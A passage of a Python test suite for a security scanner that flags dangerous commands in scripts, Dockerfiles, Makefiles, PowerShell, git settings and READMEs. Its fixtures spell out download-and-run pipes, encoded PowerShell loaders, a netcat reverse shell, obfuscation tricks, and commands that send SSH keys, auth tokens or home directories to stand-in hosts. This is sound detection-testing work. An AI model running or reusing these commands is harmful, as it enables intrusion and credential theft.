    for script in ("( " * 3000 + "a" + ") | b" * 3000, "a | ( " * 3000 + "b" + ")" * 3000):
        with pytest.raises(LimitReachedError):
            list(collect_script_mentions(script))


def test_tr_command_with_a_letter_range_beyond_ascii_leaves_its_input_unchanged():
    # Such ranges are not expanded: each could take as many letters as lie between its ends, and a text can hold thousands.
    for script in ("echo \xe9 | tr 'a-\U00020000' 'b-\U00020001'", "echo \xe9 | tr '\xe8-\xea' '\xe9-\xeb'"):
        assert evaluate_pipeline_output(parse_commands(script)) == "\xe9"


def test_deeply_nested_shell_expansions_are_read_or_stop_at_a_bound_without_another_error():
    for opening, closing in (("$((", "))"), ("${x:-", "}"), ('"${x:-', '}"'), ("${", "")):
        with suppress(LimitReachedError):
            list(collect_script_mentions("echo " + opening * 3000 + "1" + closing * 3000))


@check_each(
    "path, text, line",
    [
        ("Dockerfile", "FROM x\n# c\nRUN a && \\\n  # c\n  curl http://e | sh\n", 5),
        ("Dockerfile", "FROM x\nRUN <<EOF\ntrue\ncurl http://e | sh\nEOF\n", 4),
        ("Dockerfile", 'FROM x\nENV U=http://e\nCMD ["sh", "-c", "curl $U | sh"]\n', 3),
        ("app.dockerfile", "RUN --mount=type=cache,target=/x curl http://e | sh\n", 1),
        ("Makefile", "U = http://e\nall:\n\t-@curl $(U) | sh\n", 3),
        ("Makefile", "X := $(shell \\\n  curl http://e | sh)\n", 1),
        ("Makefile", "X = a \\\n  b\nall:\n\tcurl http://e | sh\n", 4),
        ("x.ps1", "a `\n b\niex (iwr `\n http://e)\n", 3),
        ("x.bat", "set a=b\r\n" + "rem%a%" + " " * 5000 + "& powershell iex (iwr http://e)\r\n", 2),
        ("x.bat", "@echo off\r\npowershell -c \"iex (iwr http://e)\"\r\n", 2),
        ("run", "#!/usr/bin/env bash\ncurl http://e | sh\n", 2),
        ("hooks/post-checkout", "#!/bin/sh\ncurl http://e | sh\n", 2),
    ],
)  # fmt: skip
def test_mention_of_a_script_command_states_its_line_in_the_file(read_bytes, path, text, line):
    reading = read_bytes(text.encode(), path)
    mentions = [mention for outline in reading.of(Outline) for mention in outline.mentions]
    assert [mention.where.line for mention in mentions if mention.use == "download-and-run"] == [line]


def test_program_of_python_in_a_here_document_of_a_dockerfile_is_read(read_bytes):
    program = 'import os\nos.system("echo inert")\n'
    for start in ("RUN <<EOF\n", "ONBUILD RUN --mount=type=cache,target=/x \\\n <<'EOF'\n"):
        text = f"FROM x\n{start}#!/usr/bin/env python3\n{program}EOF\nRUN true\n"
        line = 3 + start.count("\\\n")
        (path,) = (path for path in read_bytes(text.encode(), "Dockerfile").formats if path.endswith(".py"))
        assert path.endswith(f"line-{line}.py")


@check_each(
    "text, line",
    [
        ("# syntax=evil.example/frontend\nFROM x\n", 1),
        ("# escape=`\n# Syntax = docker/dockerfile.example/x:1\nFROM x\n", 2),
        ("FROM x\nRUN <<EOF\n#!/usr/bin/perl\nprint 1;\nEOF\n", 3),
    ],
)
def test_program_of_a_dockerfile_that_is_neither_shell_nor_python_is_unread(read_bytes, text, line):
    ((_, unread),) = read_bytes(text.encode(), "Dockerfile").inner.unread
    assert (unread.reason, unread.where.line) == (UnreadReason.PROGRAM, line)


def test_dockerfile_with_a_frontend_of_docker_and_a_shell_here_document_is_read_whole(read_bytes):
    text = b"# syntax=docker/dockerfile:1.7\nFROM x\nRUN <<EOF\n#!/usr/bin/env bash\ntrue\nEOF\n"
    assert not read_bytes(text, "Dockerfile").unread


def test_git_hook_is_reported(read_bytes):
    assert ("on-open", "git hook pre-commit") in list_mentions(read_bytes(b"#!/bin/sh\ntrue\n", ".githooks/pre-commit"))


def test_git_setting_that_runs_a_command_is_reported(read_bytes):
    # A backslash at the end of a line continues it. In a comment it does not; the "#" in quotes begins no comment.
    for line_before in ("", "# x \\\n", "a = b ; x \\\n", 'a = "b # c" \\\n\n'):
        settings_text = f"[core]\n{line_before}sshCommand = sh -c x\n".encode()
        assert list_mentions(read_bytes(settings_text, ".git/config")) == [("git-command", "core.sshcommand")]


def test_usual_git_settings_give_no_mentions(read_bytes):
    settings_text = b'[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[core]\n\teditor = vim\n'
    assert list_mentions(read_bytes(settings_text, ".gitconfig")) == []


def test_reverse_shell_in_the_command_of_a_desktop_entry_is_reported(read_bytes):
    entry = b"[Desktop Entry]\nExec=nc -e sh h 1\n"
    assert "reverse-shell" in {use for use, _ in list_mentions(read_bytes(entry, "x.desktop"))}


def test_foreign_package_index_in_npm_settings_is_reported(read_bytes):
    for address in (
        "https://e.invalid/",
        "https://e.invalid/?://registry.npmjs.org",
        "https://registry.npmjs.org.e.invalid/",
    ):
        assert list_mentions(read_bytes(f"registry={address}\n".encode(), ".npmrc")) == [("index", address)]


def test_line_number_of_a_shell_command_counts_the_line_break_in_a_quoted_text_before_it():
    [mention] = collect_script_mentions("x=$'a\nb'\ncurl http://e/x | sh")
    assert mention.where.line == 3


def test_default_package_index_of_npm_gives_no_mention(read_bytes):
    assert list_mentions(read_bytes(b"registry=https://registry.npmjs.org/\n", ".npmrc")) == []


def test_package_index_in_pip_conf_is_reported_under_keys_with_upper_case_or_underscores(read_bytes):
    for key in ("index-url", "INDEX_URL", "Extra_Index-Url"):
        reading = read_bytes(f"[global]\n{key} = https://e.invalid/s\n".encode(), "pip.conf")
        assert ("index", "https://e.invalid/s") in list_mentions(reading)


def test_local_file_that_a_modelfile_names_gives_a_reference(read_bytes):
    reading = read_bytes(b"FROM ../x.gguf\nADAPTER\t./a.gguf\nTEMPLATE x\n", "Modelfile")
    assert [each.target for group in reading.of(References) for each in group.items] == ["../x.gguf", "./a.gguf"]


def test_model_name_in_a_modelfile_gives_no_reference(read_bytes):
    assert not read_bytes(b"FROM llama3\n", "Modelfile").of(References)


def test_python_program_inside_a_shell_script_is_read_as_an_artifact(read_bytes):
    reading = read_bytes(b"true\npython - <<E\nimport os\nE\npython3 -c 'x = 1'\n", "a.sh")
    assert [path for path, _ in reading.structures if "!" in path] == ["a.sh!line-2.py", "a.sh!line-5.py"]


def test_shell_commands_before_damage_are_reported(read_bytes):
    reading = read_bytes(b"curl http://e | sh\n" + b"#\n" * 3000 + b"\0", "a.sh")
    assert list_mentions(reading) == [("download-and-run", "http://e")]
    assert UnreadReason.DAMAGED in reading.reasons()


def test_deeply_nested_script_is_reported_as_unread(read_bytes):
    assert UnreadReason.LIMIT in read_bytes(b"$(" * 3000, "a.sh").reasons()


def test_very_long_script_is_reported_as_unread(read_bytes, monkeypatch):
    monkeypatch.setattr(reader, "_MOST_CHARACTERS", 20_000)
    assert read_bytes(b"true;" * 3999, "a.sh").reasons() == set()
    assert UnreadReason.LIMIT in read_bytes(b"true;" * 4001, "a.sh").reasons()


@given(st.text("ab$(){}'\"\\`|&;<>#\n =-", max_size=200))
def test_shell_lexer_raises_no_error_for_any_text(text):
    # Any error fails the test.
    parse_commands(text)
    list(collect_script_mentions(text[:60]))


@pytest.mark.parametrize(
    "recipe",
    [
        "$(subst X,,cuXrl http://e | sXh)", "$(call f,cu,rl) http://e | $(call f,s,h)", "$(patsubst X%,%,Xcurl) http://e | sh",
        "$(if 1,curl,x) http://e | $(or sh,x)", "$(word 2,a curl) http://e | $(lastword a sh)", "$(R:X=) http://e | sh",
        "$(subst X,,cuXrl \\\n  http://e | sh)", "$(foreach p,curl,$(p) http://e | sh)", "$(call call,f,cu,rl) http://e | sh",
        "$(strip curl) $(addsuffix //e,http:) | $(join s,h)", "$(value R) true",
    ],
)  # fmt: skip
def test_command_that_functions_of_make_compute_from_constants_is_mentioned(recipe, read_bytes):
    text = f"f = $(1)$(2)\nR = curlX\nall:\n\t@{recipe}\n"
    expected = ("download-and-run", "http://e") if "value" not in recipe else None
    mentions = list_mentions(read_bytes(text.encode(), "Makefile"))
    assert expected in mentions if expected else not mentions


@pytest.mark.parametrize(
    "text",
    [
        "$(eval X := $$(shell curl http://e | sh))\n",
        "define T\n$(1):\n\tcurl http://e | sh\nendef\n$(foreach t,a b,$(eval $(call T,$(t))))\n",
        "MAKEFLAGS += --eval=$$(shell\\ curl\\ http://e|sh)\n",
        '$(guile (system "curl http://e | sh"))\n',
        "CFLAGS := $(CFLAGS) -g\nA = $(B)\nB = $(A)\nall:\n\tcurl http://e | sh\n",
        "all:\n\t$(info $(shell curl http://e | sh))\n",
    ],
)
def test_command_that_a_makefile_adds_to_itself_is_mentioned(text, read_bytes):
    assert ("download-and-run", "http://e") in list_mentions(read_bytes(text.encode(), "Makefile"))


@pytest.mark.parametrize(
    "command, use",
    [
        ("docker run -v /:/host image", "host-root"),
        ("sudo podman run --rm --volume=/:/host image", "host-root"),
        ("docker run --mount type=bind,source=/,target=/host image", "host-root"),
        ("docker run -v/:/host image", "host-root"),
        ("docker run -v /:/host:ro image", "privileged-container"),
        ("docker run --privileged image", "privileged-container"),
        ("docker compose run -v //:/host image", "host-root"),
        ("docker run -v /x/..:/host image", "host-root"),
        ("nsenter -t 1 -m sh", "privileged-container"),
        ("docker run --pid host image", "privileged-container"),
        ("docker run -v /var/run/docker.sock:/var/run/docker.sock image", "privileged-container"),
        ("docker run -v /home:/home -v $PWD:/work -v /data/x:/x -v cache:/c image", None),
        ("docker run --gpus all --ipc=host --shm-size 8g image", None),
        ("docker build -v /:/host .", None),
    ],
)
def test_container_with_power_over_its_host_is_mentioned(command, use):
    assert [each.use for each in collect_script_mentions(command)] == ([use] if use else [])


@pytest.mark.parametrize(
    "text, uses",
    [
        ("services: {a: {image: x, volumes: ['/:/host']}}", {"host-root"}),
        ("services: {a: {volumes: [{type: bind, source: /, target: /host}]}}", {"host-root"}),
        ("services: {a: {privileged: true, pid: host}}", {"privileged-container"}),
        ("services: {a: {volumes: ['/var/run/docker.sock:/var/run/docker.sock']}}", {"privileged-container"}),
        ("kind: Pod\nspec: {hostPID: true, volumes: [{hostPath: {path: /}}]}", {"host-root", "privileged-container"}),
        ("spec: {containers: [{securityContext: {privileged: true}}]}", {"privileged-container"}),
        ("services: {a: {volumes: ['${R:-/}:/host']}}", {"host-root"}),
        ("volumes: {r: {driver_opts: {type: none, o: bind, device: /}}}", {"host-root"}),
        ("runArgs: ['-v=/:/host', --privileged]", {"host-root", "privileged-container"}),
        ("services: {a: {privileged: false, volumes: ['./data:/data', 'cache:/c', '/data:/x']}}", set()),
        ("spec: {volumes: [{hostPath: {path: /data}}], securityContext: {privileged: false}}", set()),
        ("volumes: [1, 2]\nprivileged: true\npid: host", set()),
    ],
)
def test_setting_that_gives_a_container_power_over_its_host_is_mentioned(text, uses, read_bytes):
    assert {use for use, _ in list_mentions(read_bytes(text.encode(), "x.yaml"))} == uses


@pytest.mark.parametrize(
    "command, mention",
    [
        ("go run a.example/x@latest", ("address", "https://a.example/x")),
        ("ansible-pull -U https://a.example/x.git site.yml", ("address", "https://a.example/x.git")),
        ("kubectl apply -f https://a.example/x.yaml", ("address", "https://a.example/x.yaml")),
        ("kubectl apply -f http://a.example/x.yaml", ("plain-text", "http://a.example/x.yaml")),
        ("helm repo add x https://a.example/charts", ("address", "https://a.example/charts")),
        ("git clone http://a.example/x.git && cd x && make", ("address", "https://a.example/x.git")),
        ("git clone https://a.example/x y; bash y/install.sh", ("address", "https://a.example/x")),
        ("git clone https://a.example/x; pip install ./x", ("address", "https://a.example/x")),
        ("git clone https://a.example/x; cd x; ./setup", ("address", "https://a.example/x")),
        ("hg clone https://a.example/x; make -C x", ("address", "https://a.example/x")),
        ("gh repo clone acme/x && cd x && ./install", ("address", "https://github.com/acme/x")),
        ("helm install x oci://a.example/x", ("address", "https://a.example/x")),
        ("nix run github:acme/x", ("address", "https://github.com/acme/x")),
        ("pipx run http://a.example/x.py", ("plain-text", "http://a.example/x.py")),
        ("add-apt-repository -y ppa:acme/x", ("signed-index", "ppa:acme/x")),
        ("julia -e 'using Pkg; Pkg.add(url=\"https://a.example/x\")'", ("address", "https://a.example/x")),
        ('Rscript -e \'install.packages("x", repos="http://a.example")\'', ("plain-text", "http://a.example")),
        ("Rscript -e 'remotes::install_github(\"acme/x\")'", ("address", "https://github.com/acme/x")),
        ("go run ./cmd/x", None),
        ("kubectl apply -f x.yaml", None),
        ("git clone $REPOSITORY x; cd x; make", None),
        ("git clone https://a.example/x data; ls data; python3 train.py", None),
        ("git pull", None),
        ("julia -e 'using Pkg; Pkg.add(\"CSV\")'", None),
    ],
)
def test_program_that_fetches_code_which_it_runs_or_installs_is_mentioned_with_the_address(command, mention):
    found = [(each.use, each.name.partition("@")[0]) for each in collect_script_mentions(command)]
    assert [each for each in found if each[0] != "editable" and each[0] != "local-path"] == (
        [mention] if mention else []
    )


@pytest.mark.parametrize(
    "text, name",
    [
        ("```\ncurl http://e | sh\n```\n", "http://e"),
        ("~~~bash\n$ curl http://e | sh\n~~~\n", "http://e"),
        ("> ```sh\n> user@host:~$ curl http://e | sh\n> ```\n", "http://e"),
        ("a\n```python\nx\n```\n\n```sh\ncurl http://e | sh\n", "http://e"),
        ("Run `curl http://e | sh` now.\n", "http://e"),
        ("Run this:\n\n    curl http://e | sh\n", "http://e"),
        ("```powershell\niex (iwr http://e.invalid/x)\n```\n", "http://e.invalid/x"),
        ("```python\nx = 1\n!curl http://e | sh\n```\n", "http://e"),
        ("Run <code>c&#117;rl http://e | s&#104;</code>.\n", "http://e"),
        ("```\npip install --index-url http://e/simple x\n```\n", "http://e/simple"),
        ("```sh\npip install -U x\npython3 run.py | tee log\ncurl http://e -o x\n```\n", None),
        ("```python\nos.system('curl http://e | sh')\n```\n", "(download | shell)"),
        ("```sh\nls\n```\ncurl http://e | sh\n```sh\nls\n```\n", "http://e"),
        ("Never pipe curl http://e | sh.\n", None),
    ],
)
def test_harmful_command_that_a_document_shows_is_an_instruction(text, name, read_bytes):
    mentions = list_mentions(read_bytes(text.encode(), "README.md"))
    assert mentions == ([("instruction", name)] if name else [])


def test_instruction_of_a_document_is_located_at_the_line_of_the_command(read_bytes):
    text = b"a\n```sh\nls\ncurl http://e | sh\n```\n\n`curl http://e/b | sh`\n"
    mentions = [mention for each in read_bytes(text, "a.md").of(Outline) for mention in each.mentions]
    assert [mention.where.line for mention in mentions] == [4, 7]


def test_document_with_more_commands_than_are_analysed_is_read_in_part(read_bytes):
    reading = read_bytes(b"```sh\n" + b"echo a\n" * 70_000 + b"```\n", "a.md")
    assert UnreadReason.LIMIT in reading.reasons()


@settings(deadline=None)  # the first text that may hold a secret imports the detectors
@given(st.binary(max_size=300), st.sampled_from(["a.sh", "Dockerfile", "Makefile", "a.ps1", ".gitconfig", "a.service"]))
def test_scripts_of_any_bytes_never_crash_the_readers(read_bytes, data, path):
    # Any error that the reader does not report as damage or as a limit fails the test.
    read_bytes(b"RUN true\n" + data, path)


def test_mentions_of_a_very_long_shell_pipeline_are_yielded_until_its_analysis_stops_at_its_bound():
    uses = []
    with pytest.raises(LimitReachedError, match="nested and piped commands"):
        uses.extend(each.use for each in collect_script_mentions("curl http://a/b | sh" + " | sh" * 20_000))
    assert set(uses) == {"download-and-run"}
    # For each command, the analysis goes through all commands before it, so 700 commands would take 245,000 steps.
    assert 100 < len(uses) < 700


def test_shell_pipeline_of_two_hundred_commands_is_analysed_to_its_end():
    script = "curl http://a/b | sh" + " | tee a" * 200 + " | bash"
    assert [each.name for each in collect_script_mentions(script)] == ["http://a/b"] * 2


@check_each(
    "text",
    [
        "find . -name '*.pyc' -delete; find / -name core -delete; find build -exec rm {} \\;",
        "trap 'rm -rf \"$work\"' EXIT; su - user -c 'python train.py'",
        "alias ll='ls -l'; ll; log() { echo \"$@\"; }; log done | cat",
        "ssh -o StrictHostKeyChecking=no host 'nvidia-smi'; tar xf a.tar --to-stdout | head",
        "aws s3 cp s3://bucket/model.tar . ; aws s3 ls | sort; dig +short TXT example.org",
        'while read -r line; do echo "$line"; done < list.txt',
        "chmod 755 run.sh; chmod +x a; systemctl stop nginx; useradd -m user",
        "pip install -U pip; pip install -e .; pip install 'torch>=2' --index-url https://download.pytorch.org/whl/cpu",
        "awk '{print $1}' a | sort; perl -pe 's/a/b/' x; PAGER=less git log",
        "curl https://e.invalid/x -o x.json; python use.py < y.json",
    ],
)
def test_harmless_shell_command_gives_at_most_mentions_of_addresses_editable_installs_or_indexes(text):
    severe = [each for each in collect_script_mentions(text) if each.use not in ("address", "editable", "index")]
    assert severe == []


def test_script_line_with_deep_arrays_or_long_values_is_split_without_exhausting_the_stack():
    # Without a bound, the first text exhausts the stack, and each expansion of the second copies a long value.
    deep_array = "a=(" * 2000 + ")" * 2000
    assert isinstance(split_words(deep_array), list)
    assert split_words("a=" + "x" * 100_000 + "; ${a%%*}" * 5)


@given(st.text(alphabet="${}[]()#%/:,^!@*ab01'\"\n ", max_size=120))
def test_shell_expansion_of_any_text_ends_without_an_error(text):
    # Any error fails the test.
    list(collect_script_mentions("a=bcd; b=(c d)\n" + text))


@pytest.mark.parametrize(
    "text",
    [
        "$url = 'https://e.invalid/a.zip'\nInvoke-WebRequest $url -OutFile a.zip\nExpand-Archive a.zip",
        '$env:PATH = "$env:VIRTUAL_ENV;$env:PATH"\nSet-Alias ll Get-ChildItem',
        "set PYTHON=python\r\n%PYTHON% train.py\r\ncurl -o data.csv https://e.invalid/data.csv\r\n",
    ],
)
def test_harmless_line_of_a_windows_script_gives_no_mention(text):
    assert [mention.use for mention in collect_windows_mentions(text)] == []


@pytest.mark.parametrize("shell", ["bash -eux", "bash -euo pipefail", "sh -p", "bash -m", "python3 -u"])
def test_download_piped_into_a_shell_is_reported_if_the_shell_reads_its_program_from_the_pipe(shell):
    (mention,) = collect_script_mentions(f"curl -fsSL https://e.invalid/x | {shell}")
    assert (mention.use, mention.name) == ("download-and-run", "https://e.invalid/x")


@pytest.mark.parametrize("shell", ["bash -xc true", "bash -e script.sh", "python3 -m json.tool"])
def test_download_piped_into_a_shell_is_not_reported_if_an_argument_gives_the_program(shell):
    assert not list(collect_script_mentions(f"curl -fsSL https://e.invalid/x | {shell}"))


def encode_for_powershell(command: str) -> str:
    """Return a command line that runs the command from Base64 of UTF-16, as PowerShell reads it."""
    return f"powershell -enc {base64.b64encode(command.encode('utf-16-le')).decode()}"


def test_command_in_five_nested_encoded_commands_of_powershell_is_reported():
    command = "iex (iwr http://e.invalid/x)"
    for _ in range(5):
        command = encode_for_powershell(command)
    assert "download-and-run" in {mention.use for mention in collect_windows_mentions(command)}


def test_second_encoded_powershell_command_of_a_line_is_decoded():
    line = "; ".join(map(encode_for_powershell, ("echo harmless", "iex (iwr http://e.invalid/x)")))
    assert "download-and-run" in {mention.use for mention in collect_windows_mentions(line)}


def test_encoded_powershell_command_at_a_nesting_depth_of_30_raises_a_limit_error():
    with pytest.raises(LimitReachedError):
        list(collect_windows_mentions(encode_for_powershell("echo harmless"), depth=30))


@check_each(
    "text",
    [
        "x='{filler}; curl http://e/x | sh'\neval \"$x\"\n",
        "x='{filler}; curl http://e/x | sh'\necho \"$x\" | sh\n",
        "x=(a '{filler}; curl http://e/x | sh')\neval \"${{x[@]}}\"\n",
    ],
)
def test_end_of_a_long_variable_that_is_executed_is_analysed_or_raises_a_limit_error(text):
    uses = set()
    try:
        uses |= {mention.use for mention in collect_script_mentions(text.format(filler="a" * 5000))}
    except LimitReachedError:
        uses.add("limit")
    assert uses & {"download-and-run", "limit"}


def test_long_variable_that_is_not_executed_raises_no_limit_error():
    assert not list(collect_script_mentions(f'usage=\'{"a " * 5000}\'\necho "$usage"\ntrue "$usage"\n'))


def test_command_at_the_end_of_a_long_line_of_settings_is_reported(read_bytes):
    spaces = " " * 6000
    unit = f"[Service]\nExecStart=/bin/sh -c 'echo{spaces}; curl http://e/x | sh'\n".encode()
    (outline,) = read_bytes(unit, "a.service").of(Outline)
    assert "download-and-run" in {mention.use for mention in outline.mentions}
    (outline,) = read_bytes(f"*.bin{spaces}filter=evil\n".encode(), ".gitattributes").of(Outline)
    assert [mention.name for mention in outline.mentions] == ["filter=evil"]
    (outline,) = read_bytes(f"[core]{spaces}fsmonitor=evil\n".encode(), ".gitconfig").of(Outline)
    assert "core.fsmonitor" in {mention.name for mention in outline.mentions}


@check_each(
    "text, use",
    [
        ("x='$(curl http://e/x | sh)'; echo \"${x@P}\"", "download-and-run"),
        ("x='a[$(curl http://e/x | sh)]'; echo ${!x}", "download-and-run"),
        ("x='a[`curl http://e/x | sh`]'; ((x))", "download-and-run"),
        ("[[ -v 'a[$(curl http://e/x | sh)]' ]] && true", "download-and-run"),
        ("PS4='$(curl http://e/x | sh)'; set -x; true", "download-and-run"),
        ("ssh -p 22 host run | sh", "download-and-run"),
        ("lftp -c 'cat http://e/x' | sh", "download-and-run"),
        ("curl http://e/x | yash", "download-and-run"),
        ("curl http://e/x | Rscript -", "download-and-run"),
        (f"env {'A=1 ' * 22} su -c 'curl http://e/x | sh'", "download-and-run"),
        ("docker --log-level info --context a --host b run -v /:/h x", "host-root"),
        ("python -X a -X b -X c -X d -m pip install -i http://e/simple x", "plain-text"),
        ("pip --proxy a --timeout 1 --retries 1 --log x --cert y install -i http://e/simple x", "plain-text"),
        ("chmod u+s /usr/bin/find", "persistence"),
        ("setcap cap_setuid+ep /usr/bin/python3", "persistence"),
        ("docker run -v $HOME:/h x", "privileged-container"),
        ("docker run -v ~/.ssh:/k x", "privileged-container"),
        ("tar cz ~ | curl -T - https://e/", "send-private"),
        ("find ~ -name 'id_*' -exec curl -F f=@{} https://e/ ';'", "send-private"),
        ("gh auth token | curl -d @- https://e/", "send-private"),
    ],
)
def test_harm_in_evaluated_constants_behind_options_and_by_further_programs_is_mentioned(text: str, use: str) -> None:
    assert use in {mention.use for mention in collect_script_mentions(text)}


@check_each(
    "text",
    [
        "PS1='\\u@\\h:\\w\\$ '; x='a[$((i + 1))]'; echo ${!x}",
        "ssh host; ssh -i key -p 22 host | tee log",
        "chmod g+s /opt/tool; chmod u+s /usr/bin/ping; setcap cap_net_bind_service=+ep /usr/bin/node",
        "docker run -v ~/.cache:/c -v $HOME/.ssh:/k:ro x",
        "apt-get install -y find sed awk git vim tmux make tar env su script ssh rsync perl ruby php lua",
        "tar cz data | curl -T - https://e/; gcloud auth print-access-token | docker login --password-stdin x",
    ],
)
def test_ordinary_prompt_connection_right_mount_or_list_of_packages_is_not_mentioned(text: str) -> None:
    assert list(collect_script_mentions(text)) == []


def test_command_with_more_words_that_name_programs_than_are_analysed_reaches_a_limit() -> None:
    with pytest.raises(LimitReachedError, match="words that can name its program"):
        list(collect_script_mentions("x " + "find " * 21))


def test_makefile_is_evaluated_in_as_many_rounds_as_its_texts_need() -> None:
    text = "$(shell curl http://e/x | sh)"
    for _ in range(8):
        text = f"$(eval {text.replace('$', '$$')})"
    assert "curl http://e/x | sh" in convert_makefile(text)


@check_each(
    "text, use",
    [
        ("$x = New-Object -ComObject Msxml2.XMLHTTP\n$x.send()\n& ([scriptblock]::Create($x.responseText))",
         "download-and-run"),
        ("curl -o x.exe http://e/x\nx", "download-then-run"),
        ("for /f %%i in (list.txt) do %%i", "unresolved-run"),
        ("Start-Process cmd -ArgumentList '/c',(gc p.txt)", "unresolved-run"),
    ],
)  # fmt: skip
def test_program_that_windows_runs_from_an_object_a_list_or_without_its_extension_is_mentioned(text, use) -> None:
    assert use in {mention.use for mention in collect_windows_mentions(text)}


@check_each(
    "text, use",
    [
        ("mkdir -p b; curl -so b/x.sh http://e/x; cd b && sh x.sh", "download-then-run"),
        ("cd /tmp; curl -so x.sh http://e/x; sh /tmp/x.sh", "download-then-run"),
        ("wget -P d http://e/x.sh; mv d e; sh e/x.sh", "download-then-run"),
        ("wget http://e/x.sh; rename s/sh/txt/ x.sh; sh x.txt", "download-then-run"),
        ("wget -O - http://e/x.sh | split -b 1m - p_; sh p_aa", "download-then-run"),
        ("wget -O a http://e/x; sed -n p a > b.sh; sh b.sh", "download-then-run"),
        ("wget -O a http://e/x; sed 's/a/a/w c.sh' a; sh c.sh", "download-then-run"),
        ("curl -so /tmp/x.so http://e/x; LD_PRELOAD=/tmp/x.so python train.py", "download-then-run"),
        ("python3 -m wget http://e/y.sh -o y.sh; sh y.sh", "download-then-run"),
        ("curl http://e/x | docker exec -i c sh", "download-and-run"),
        ("curl http://e/x | kubectl exec -i p -- sh", "download-and-run"),
        ('node -e \'require("https").get("https://e/x", r => r.on("data", d => eval(String(d))))\'', "decode-and-run"),
        ("Rscript -e 'source(\"https://e/x.R\")'", "decode-and-run"),
        ("julia -e 'include(download(\"https://e/x.jl\"))'", "decode-and-run"),
        ("git clone --depth 1 https://e.invalid/a/x.git; cd x; make install", "address"),
        ("git -C /tmp clone http://e.invalid/a/x.git; make -C /tmp/x install", "address"),
        ("git clone http://e.invalid/a/x.git; . x/run.sh", "address"),
        ("wget https://e.invalid/x.deb; sudo dpkg -i x.deb", "address"),
        ("curl -O https://e.invalid/x.whl; pip install ./x.whl", "archive"),
        ("curl -s https://e.invalid/x.yaml | kubectl apply -f -", "address"),
        ("curl -s https://e.invalid/x | docker load", "address"),
    ],
)
def test_downloaded_content_that_a_script_moves_changes_loads_or_installs_is_mentioned(text: str, use: str) -> None:
    assert use in {mention.use for mention in collect_script_mentions(text)}


@check_each(
    "text",
    [
        "curl -so b/x.csv http://e/x; cd b && sh x.sh",
        "curl -so a.csv http://e/x; mv d e; sed -n p a.csv > b.csv; sh e/x.sh",
        "docker exec -i c sh -c 'ls' < x; cat x | kubectl exec -i p -- tar x",
        "wget -O - http://e/x.csv | split -b 1m - p_; sh prepare.sh",
    ],
)
def test_downloaded_data_beside_a_script_of_the_model_is_not_mentioned(text: str) -> None:
    assert list(collect_script_mentions(text)) == []


def test_folders_that_a_script_copies_into_each_other_reach_a_bound_and_the_later_run_is_still_mentioned():
    mentions = []
    script = "curl -o a/x http://e\n" + "cp -r a b\ncp -r b a\n" * 12 + "sh a/x\n"
    with pytest.raises(LimitReachedError, match="was not followed"):
        mentions.extend(collect_script_mentions(script))
    assert ("download-then-run", "http://e") in {(mention.use, mention.name) for mention in mentions}


def test_renamed_name_that_grows_beyond_the_length_of_a_file_name_is_not_followed_and_a_shorter_one_is():
    long_name = "a" * 1000
    script = f"curl -o {long_name} http://e\nrename a {{}} {long_name}\nsh {{}}\n"
    uses = [[mention.use for mention in collect_script_mentions(script.format(new, new * 1000))] for new in ("b", "bb")]
    assert uses[0] == ["download-then-run"]
    assert "download-then-run" not in uses[1]
